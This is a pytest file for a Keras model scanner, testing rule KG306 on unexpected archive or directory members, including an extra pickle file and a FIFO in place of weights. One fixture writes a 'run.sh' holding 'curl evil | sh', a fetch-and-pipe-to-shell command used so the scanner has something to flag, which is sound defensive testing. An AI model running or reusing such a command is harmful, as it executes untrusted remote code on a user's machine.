"""KG306 unexpected member in a Keras archive or directory."""

from __future__ import annotations

import os
from pathlib import Path

from kerasguard.findings import Severity
from support.scanhelp import hits, scan_bytes, scan_path
from support.zipcraft import CONFIG, Entry, build, keras_entries


def test_extra_member_in_keras_archive_is_low(tmp_path: Path) -> None:
    report = scan_bytes(tmp_path, build([*keras_entries(), Entry(b"payload.pkl", b"\x80\x04N.")]))
    (finding,) = hits(report, "KG306")
    assert finding.severity is Severity.LOW and finding.location.member == "payload.pkl"


def test_assets_and_npz_weights_are_expected(tmp_path: Path) -> None:
    entries = [*keras_entries(), Entry(b"assets/", b""), Entry(b"assets/sub/v.txt", b"a")]
    assert hits(scan_bytes(tmp_path, build(entries)), "KG306") == []


def test_plain_zip_is_not_judged_against_the_keras_layout(tmp_path: Path) -> None:
    data = build([Entry(b"anything.bin", b"x")])
    assert hits(scan_bytes(tmp_path, data, name="bundle.zip"), "KG306") == []


def test_directory_extra_file_and_fifo(tmp_path: Path) -> None:
    model = tmp_path / "model"
    model.mkdir()
    (model / "config.json").write_bytes(CONFIG)
    (model / "run.sh").write_text("curl evil | sh")
    os.mkfifo(model / "model.weights.h5")
    found = {f.location.member: f for f in hits(scan_path(model), "KG306")}
    assert found["run.sh"].severity is Severity.LOW
    assert (
        found["model.weights.h5"].severity is Severity.MEDIUM and "FIFO" in found["model.weights.h5"].message
    )
